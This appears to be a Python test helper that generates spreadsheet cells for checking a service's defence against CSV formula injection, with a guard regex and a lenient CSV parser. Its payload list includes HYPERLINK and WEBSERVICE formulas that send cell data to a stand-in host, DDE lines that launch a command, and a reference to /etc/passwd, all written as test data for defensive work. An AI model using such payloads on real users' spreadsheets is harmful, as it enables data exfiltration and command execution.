"""Cells that hurt a spreadsheet, and how the service writes and whoever reads it finds them again."""

import random
import re

SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫−"
BLANKS = "\t\r\n\0"

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "@SUM(1,1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫A1", "−1+1",
    '=HYPERLINK("https://evil.example/?x="&A1;"Fehler")', '=HYPERLINK("https://evil.example","Fehler")',
    "=WEBSERVICE(\"https://evil.example/\"&A2)", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"1\")", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(\"https://evil.example\",\"//a\")", "=A1", "={1}", "=1+1;2",
    "%0A=1+1", "=\"a\"&\"b\"", "='file:///etc/passwd'#$Sheet1.A1", "+49 241 5198-0", "-", "=", "@anna", "=-+@", "=ZEICHEN(1)",
]  # fmt: skip
BEFORE = ["", "'", "''", '"', '""', "'\"", " ", "a", "a,", "a;", "a|", ",", ";", "a,\"", "a;'", "a\",\"", "a\";\"", "', ", "a, ", "\u00a0", "\u200b"]
AFTER = ["", ",b", ";b", "\"", "\",b", "\";\"b", "'", " ", ";", ",", "\",\"=1+1\",\"", ";=1+1;", ",-1,"]
# What a name or an address may hold besides; an answer also line feeds and tabs.
PLAIN = "aäßZ 019,;:.|'\"=+-@＝−()&%$#\\/<>[]{}~€😀\u0301"
LINES = ["\n", "\t", "\n\n", "\r\n"]
# The door is closed to these.
CONTROLS = ["\0", "\t", "\r", "\n", "\x1b", "\x7f", "\u202e", "\u2028", "\ufeff", "\x85"]


class Cells:
    """An endless supply, the same for the same seed."""

    def __init__(self, seed: int) -> None:
        self.dice = random.Random(seed)

    def line(self, most: int) -> str:
        """What a field of one line takes, as it will be kept: trimmed."""
        return self._fit(self._any(""), most)

    def paragraphs(self, most: int) -> str:
        return self._fit(self._any(self.dice.choice(LINES)).replace("\r\n", "\n"), most)

    def refused(self, most: int) -> str:
        """With a character that no name may hold, inside, where trimming does not find it."""
        cell = self.line(most - 4)
        at = self.dice.randrange(len(cell) + 1)
        return "x" + cell[:at] + self.dice.choice(CONTROLS) + cell[at:] + "x"

    def _any(self, line: str) -> str:
        dice = self.dice
        kind = dice.random()
        if kind < 0.55:
            return dice.choice(BEFORE) + (line if dice.random() < 0.5 else "") + dice.choice(FORMULAS) + dice.choice(AFTER)
        if kind < 0.85:
            cell = "".join(dice.choice(PLAIN + SIGNS) for _ in range(dice.randrange(1, 40)))
            at = dice.randrange(len(cell) + 1)
            return cell[:at] + line + cell[at:]
        if kind < 0.95:
            parts = [dice.choice(BEFORE) + dice.choice(FORMULAS) for _ in range(dice.randrange(2, 6))]
            return (line or dice.choice([",", ";"])).join(parts)
        # As long as it may be.
        return dice.choice(FORMULAS) + line + dice.choice(PLAIN + SIGNS) * 3000

    def _fit(self, cell: str, most: int) -> str:
        # The service trims what Unicode calls white space; Python's strip also takes control characters, of which none is left.
        return cell[:most].strip() or "="


# An apostrophe that the service put there: before quotes and a sign, at the beginning or behind what parts cells somewhere.
GUARD = re.compile(r"""(?:(?<=[,;\t\r\n])'(?=['"]*[""" + re.escape(SIGNS) + r"""])|^'(?=['"]*[""" + re.escape(SIGNS) + r"""\t\r\n\0]))""", re.A)


def unguarded(cell: str) -> str:
    return GUARD.sub("", cell)


def begins(cell: str) -> bool:
    """Whether some spreadsheet would calculate it: LibreOffice takes only `=` for a sign, Excel four, in some languages more; and some
    drop what is blank before it."""
    return cell.lstrip(BLANKS).startswith(tuple(SIGNS))


def parted(text: str, separator: str) -> list[list[str]]:
    """As a lenient reader parts it: quotes mean something at the beginning of a cell only, and what follows them belongs to it."""
    rows, row, cell = [], [], []
    at, size = 0, len(text)
    quoted, fresh = False, True
    while at < size:
        sign = text[at]
        at += 1
        if quoted:
            if sign != '"':
                cell.append(sign)
            elif text[at : at + 1] == '"':
                cell.append('"')
                at += 1
            else:
                quoted = False
        elif fresh and sign == '"':
            quoted, fresh = True, False
        elif sign == separator:
            row.append("".join(cell))
            cell, fresh = [], True
        elif sign in "\r\n":
            if sign == "\r" and text[at : at + 1] == "\n":
                at += 1
            rows.append([*row, "".join(cell)])
            row, cell, fresh = [], [], True
        else:
            cell.append(sign)
            fresh = False
    if row or cell:
        rows.append([*row, "".join(cell)])
    return rows
